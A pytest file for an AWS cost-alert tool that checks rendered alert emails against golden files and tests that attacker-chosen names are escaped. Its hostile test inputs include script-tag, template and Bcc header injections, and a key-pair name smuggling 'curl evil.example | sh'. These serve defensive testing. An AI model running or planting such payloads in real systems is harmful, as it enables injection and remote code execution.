"""Email messages rendered from alerts: golden files for a hand-written incident, hostile names.

Golden files live in tests/notifiers/golden/ (the demo's own alerts are in
tests/notifiers/test_alert_layout.py). After a deliberate template change, regenerate them with
`COSTGUARD_REGEN_GOLDEN=1 pytest tests/alerts/test_compose.py tests/notifiers/test_alert_layout.py`,
read the diff, and commit what you checked.
"""

from __future__ import annotations

import os
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from costguard.alerts.alert import Alert, AlertFinding, RemediationStep
from costguard.alerts.compose import SUBJECT_MAX, accounts_label, build_message
from costguard.alerts.evidence import phase_lookup
from costguard.alerts.message_parts import duration, fact_value, scope_rows
from costguard.alerts.playbook import build_actions
from costguard.alerts.render import Renderer
from costguard.checks import default_registry
from costguard.model import AlertKind, Severity, root_arn
from costguard.notifiers.smtp import SmtpParams, build_email

GOLDEN = Path(__file__).parents[1] / "notifiers" / "golden"
REGEN = "COSTGUARD_REGEN_GOLDEN"
"""Set to 1 to write the golden files from what the templates render now."""
ACCOUNT = "123456789012"
PRINCIPAL = f"arn:aws:iam::{ACCOUNT}:user/ci-deploy"
GROUP = "sg-0a1b2c3d4e5f67890"
INSTANCES = tuple(f"i-0f3a9c7d{n:09x}" for n in range(1, 11))


def at(minute: int, second: int = 0) -> datetime:
    """A time on the morning of the reference incident."""
    return datetime(2024, 5, 1, 3, minute, second, tzinfo=timezone.utc)


def instance_finding(n: int, instance: str) -> AlertFinding:
    """One of the ten unapproved c5.4xlarge instances."""
    return AlertFinding(
        id=102 + n, policy="unapproved-instance-types", check="instance_types",
        severity=Severity.HIGH, status="open", account=ACCOUNT, region="us-east-1",
        resource=f"arn:aws:ec2:us-east-1:{ACCOUNT}:instance/{instance}",
        title="c5.4xlarge is not an allowed instance type",
        details={"instance_type": "c5.4xlarge"}, first_seen=at(9, 40), last_seen=at(9, 40),
    )


FINDINGS = (
    AlertFinding(
        id=101, policy="no-root-access-keys", check="root_access_key",
        severity=Severity.CRITICAL, status="open", account=ACCOUNT, region="global",
        resource=root_arn(ACCOUNT), title="Root user has an active access key",
        first_seen=at(10, 2), last_seen=at(10, 2),
    ),
    *(instance_finding(n, i) for n, i in enumerate(INSTANCES)),
    AlertFinding(
        id=112, policy="no-ssh-from-internet", check="open_ssh", severity=Severity.HIGH,
        status="open", account=ACCOUNT, region="us-east-1",
        resource=f"arn:aws:ec2:us-east-1:{ACCOUNT}:security-group/{GROUP}",
        title="Security group allows SSH (tcp/22) from 0.0.0.0/0",
        first_seen=at(9, 40), last_seen=at(9, 40),
    ),
)

STOP = f"""Ten c5.4xlarge instances were launched in us-east-1 by {PRINCIPAL}.
Stop them now: stopping keeps their disks for the investigation; terminate them afterwards.
```
aws ec2 stop-instances --region us-east-1 --instance-ids {' '.join(INSTANCES)}
```
- Look at every other region too: whoever launched these rarely stops at one.
"""
REVOKE = f"--region us-east-1 --group-id {GROUP} --protocol tcp --port 22 --cidr 0.0.0.0/0"
CLOSE_SSH = f"""{GROUP} lets anyone on the internet reach port 22.
```
aws ec2 revoke-security-group-ingress {REVOKE}
```
"""
ROOT_KEY = """Sign in as the root user, open Security credentials, deactivate the key, delete it.
- The root user should have no access keys at all; use IAM roles instead.
- Deactivate first: if something breaks, you can turn the key back on while you fix it.
"""

NEW = Alert(
    kind=AlertKind.NEW,
    key="incident:42:new",
    title="Leaked access key used to launch 10 c5.4xlarge instances",
    severity=Severity.CRITICAL,
    created_at=at(10, 5),
    findings=FINDINGS,
    remediation=(
        RemediationStep("instance_types", "Stop the unapproved instances", STOP),
        RemediationStep("open_ssh", "Close SSH to the internet", CLOSE_SSH),
        RemediationStep("root_access_key", "Delete the root user's access key", ROOT_KEY),
    ),
    incident_id=42,
    accounts=(ACCOUNT,),
    scope={
        "principals": [PRINCIPAL],
        "source_ips": ["203.0.113.45"],
        "user_agents": ["aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 command/ec2.run-instances"],
        "key_pairs": ["ops-recovery"],
        "security_groups": [GROUP],
        "instances": list(INSTANCES),
        "access_keys": [],
    },
    timeline=(
        (at(4, 37), f"ImportKeyPair ops-recovery in us-east-1 by {PRINCIPAL}"),
        (at(2, 11), "GetCallerIdentity from 203.0.113.45 with AKIAIOSFODNN7EXAMPLE"),
        (at(5, 2), f"AuthorizeSecurityGroupIngress {GROUP}: tcp/22 from 0.0.0.0/0"),
        (at(6, 19), "RunInstances: 10 x c5.4xlarge in us-east-1"),
    ),
    facts={
        "first_activity": at(2, 11),
        "instances_running": 10,
        # the money facts as costguard.alerts.money writes them
        "burn_rate_now_usd_per_hour": 7.25, "burn_rate_regions": ["us-east-1"],
        "added_usd_per_hour": 6.8, "incident_instances": 10, "cost_so_far_usd": 0.45,
        "cost_since": at(6, 19), "cost_as_of": at(10, 5),
        "projected_to_month_end_usd": 4997.25,
    },
)

ALERTS = {
    "new": NEW,
    "escalation": replace(
        NEW, kind=AlertKind.ESCALATION, key="incident:42:escalation",
        facts={**NEW.facts, "previous_severity": "high", "thread_key": "incident:42:new"},
    ),
    "resolved": replace(
        NEW, kind=AlertKind.RESOLVED, key="incident:42:resolved", created_at=at(57, 10),
        findings=tuple(replace(f, status="resolved", last_seen=at(52)) for f in FINDINGS),
        remediation=(), scope={},
        facts={"time_to_fix": timedelta(minutes=47, seconds=5), "thread_key": "incident:42:new",
               "added_usd_per_hour": 6.8, "incident_instances": 10, "cost_so_far_usd": 5.77,
               "cost_since": at(6, 19), "cost_as_of": at(57, 10)},
    ),
    "digest": Alert(
        kind=AlertKind.DIGEST, key="digest:2024-05-01", title="Daily digest: 2 open findings",
        severity=Severity.MEDIUM, created_at=at(0), accounts=(ACCOUNT,),
        findings=(
            AlertFinding(
                id=7, policy="ebs-encryption", check="ebs_encryption", severity=Severity.MEDIUM,
                status="open", account=ACCOUNT, region="eu-west-1",
                resource=f"arn:aws:ec2:eu-west-1:{ACCOUNT}:volume/vol-0123456789abcdef0",
                title="EBS volume is not encrypted", first_seen=at(1),
            ),
            AlertFinding(
                id=8, policy="mfa-for-console-users", check="console_mfa", severity=Severity.LOW,
                status="acknowledged", account=ACCOUNT, region="global",
                resource=f"arn:aws:iam::{ACCOUNT}:user/alice", title="Console user without MFA",
                first_seen=at(1),
            ),
        ),
    ),
}

PARTS = {"subject.txt": "subject", "txt": "text", "html": "html"}


@pytest.mark.parametrize("suffix", PARTS)
@pytest.mark.parametrize("name", ALERTS)
def test_rendered_email_matches_golden_file(name, suffix):
    rendered = getattr(build_message(ALERTS[name], Renderer()), PARTS[suffix])
    if suffix == "subject.txt":
        rendered += "\n"  # so the golden file is a normal text file
    golden = GOLDEN / f"{name}.{suffix}"
    if os.environ.get(REGEN) == "1":
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_bytes(rendered.encode("utf-8"))
        pytest.skip(f"wrote {golden}: read the diff before committing it")
    if not golden.exists():
        pytest.fail(f"{golden} is missing: run with {REGEN}=1 and check the output")
    assert rendered == golden.read_bytes().decode("utf-8")


def test_message_carries_the_alerts_identity_and_thread():
    new, resolved = (build_message(ALERTS[k], Renderer()) for k in ("new", "resolved"))

    assert (new.key, new.kind, new.severity, new.incident_id) == (
        "incident:42:new", AlertKind.NEW, Severity.CRITICAL, 42,
    )
    assert new.subject == (
        "[costguard] CRITICAL: Leaked access key used to launch 10 c5.4xlarge instances "
        "(account 123456789012, us-east-1)"
    )
    fields = dict(new.fields)
    document = fields.pop("document")
    assert fields == {"title": NEW.title, "accounts": [ACCOUNT], "thread_key": "incident:42:new"}
    assert (document["key"], document["incident_key"], document["kind"]) == (
        "incident:42:new", "incident:42:new", "new")
    assert resolved.fields["document"]["incident_key"] == "incident:42:new"
    assert resolved.fields["thread_key"] == "incident:42:new"
    assert resolved.subject.startswith("[costguard] RESOLVED: Leaked access key")


HOSTILE = "<script>alert(1)</script> {{ 7*7 }}\r\nBcc: evil@x"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }}"


def hostile_alert() -> Alert:
    """The reference incident with an attacker-chosen name in every field a message shows."""
    finding = replace(FINDINGS[0], title=HOSTILE, resource=HOSTILE)
    return replace(
        NEW,
        title=f"Key pair {HOSTILE}",
        findings=(finding,),
        scope={"key_pairs": [HOSTILE]},
        timeline=((at(4, 37), f"ImportKeyPair {HOSTILE}"),),
        facts={"tag_owner": HOSTILE},
        remediation=(RemediationStep("key_pairs", HOSTILE, f"Delete {HOSTILE}\n"),),
    )


def test_hostile_names_stay_one_line_in_the_subject():
    subject = build_message(hostile_alert(), Renderer()).subject

    assert subject == (
        "[costguard] CRITICAL: Key pair <script>alert(1)</script> {{ 7*7 }} Bcc: evil@x "
        "(account 123456789012, global)"
    )


@pytest.mark.parametrize("separator", ["\r\n", "\x85", "\u2028", "\x0b", "\x1c", "\0"])
def test_no_line_separator_in_a_name_can_block_or_split_the_email(separator):
    alert = replace(NEW, title=f"Key pair a{separator}Bcc: evil@x")
    message = build_message(alert, Renderer())
    smtp = SmtpParams.model_validate({"host": "h", "from": "a@x.example", "to": ["b@x.example"]})

    email = build_email(message, smtp, at(11))

    assert message.subject.splitlines() == [message.subject]
    assert email["Subject"] == message.subject
    assert "Bcc" not in email


def test_hostile_names_are_escaped_in_html():
    html = build_message(hostile_alert(), Renderer()).html

    assert "<script>" not in html
    assert "{{ 7*7 }}" in html and "49" not in html
    # title, subject in <title>, finding title, scope, timeline, fact, step title, step body:
    # every place shows the escaped text.
    assert html.count(ESCAPED) == 8


def test_hostile_names_are_literal_text_and_keep_their_lines_in_text():
    text = build_message(hostile_alert(), Renderer()).text

    assert "49" not in text
    lines = text.splitlines()
    assert "CRITICAL: Key pair <script>alert(1)</script> {{ 7*7 }} Bcc: evil@x" in lines
    assert "  Tag owner: <script>alert(1)</script> {{ 7*7 }} Bcc: evil@x" in lines
    assert "  Key pairs: <script>alert(1)</script> {{ 7*7 }} Bcc: evil@x" in lines
    # Only the multi-line remediation body keeps its line break.
    assert [line for line in lines if line.startswith("Bcc:")] == ["Bcc: evil@x"]


def test_a_long_title_is_cut_to_the_subject_limit_on_one_line():
    subject = build_message(replace(NEW, title="x" * 300), Renderer()).subject

    assert len(subject) <= SUBJECT_MAX
    assert subject.startswith("[costguard] CRITICAL: xxx")
    # the title gives way, so where it happened is never cut off
    assert subject.endswith("x\u2026 (account 123456789012, us-east-1)")


def test_a_template_folder_from_the_config_overrides_the_shipped_one(tmp_path):
    (tmp_path / "email").mkdir()
    (tmp_path / "email" / "new.txt.j2").write_text("Custom: {{ alert.title }}\n")

    message = build_message(NEW, Renderer([tmp_path]))

    assert message.text == f"Custom: {NEW.title}\n"
    assert message.html == build_message(NEW, Renderer()).html


@pytest.mark.parametrize(
    ("accounts", "label"),
    [
        ((), ""),
        (("111111111111",), "account 111111111111"),
        (("1", "2", "3"), "accounts 1, 2, 3"),
        (("1", "2", "3", "4"), "4 accounts"),
    ],
)
def test_accounts_label(accounts, label):
    assert accounts_label(accounts) == label


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (timedelta(seconds=40), "40 s"),
        (timedelta(minutes=47, seconds=5), "47 min"),
        (7500, "2 h 5 min"),
        (timedelta(hours=3), "3 h"),
        (timedelta(days=3, hours=4, minutes=9), "3 d 4 h"),
    ],
)
def test_duration(value, text):
    assert duration(value) == text


@pytest.mark.parametrize(
    ("key", "value", "text"),
    [
        ("cost_per_hour_usd", 1234.5, "$1,234.50"),
        ("time_to_fix", 125, "2 min"),
        ("api_calls", 12345, "12,345"),
        ("regions_seen", ("us-east-1", "eu-west-1"), "us-east-1, eu-west-1"),
        ("deleted", False, "no"),
        ("at", at(1), "2024-05-01 03:01:00 UTC"),
    ],
)
def test_fact_value(key, value, text):
    assert fact_value(key, value) == text


def test_scope_rows_skip_empty_lists_known_keys_first():
    rows = scope_rows(
        {"buckets": ["b"], "instances": [], "principals": "arn:p", "source_ips": None}
    )

    assert rows == (("Principals", "arn:p"), ("Buckets", "b"))


# --- a hostile name in the first actions: capped where shown, whole where run ---------------

EVIL_KEY_PAIR = "xmrig'; curl evil.example | sh #\r\nBcc: x@y \u202egpj.exe " + "k" * 10_000


def playbook_alert() -> Alert:
    """An instance and its key pair named by the attacker, in the first actions."""
    finding = replace(
        FINDINGS[1], entities=frozenset({
            f"instance:{INSTANCES[0]}", f"keypair:{ACCOUNT}:us-east-1:{EVIL_KEY_PAIR}"}),
        title=f"Instance with key pair {EVIL_KEY_PAIR}")
    actions = build_actions([finding], phase_lookup(default_registry()))
    return replace(NEW, findings=(finding,), actions=actions, remediation=(), scope={},
                   timeline=())


def test_a_hostile_key_pair_is_quoted_whole_in_the_command_and_capped_in_the_sentence():
    text = build_message(playbook_alert(), Renderer()).text
    lines = text.splitlines()

    command = next(line.strip() for line in lines if "delete-key-pair" in line)
    assert command.startswith("aws ec2 delete-key-pair --region us-east-1 --key-name $'xmrig")
    assert "k" * 10_000 in command  # the whole name, or the command deletes another key pair
    sentence = next(line for line in lines if line.startswith("2. Delete key pair"))
    assert len(sentence) < 400 and "\u2026" in sentence and "k" * 300 not in sentence
    assert "\u202e" not in text and "<U+202E>" in sentence
    assert not any(line.startswith("Bcc:") for line in lines)


def test_a_hostile_key_pair_stays_text_in_html():
    html = build_message(playbook_alert(), Renderer()).html

    assert "<script" not in html and "\u202e" not in html
    assert html.count("k" * 10_000) == 1  # only in the command
    assert "xmrig&#39;; curl evil.example | sh #" in html
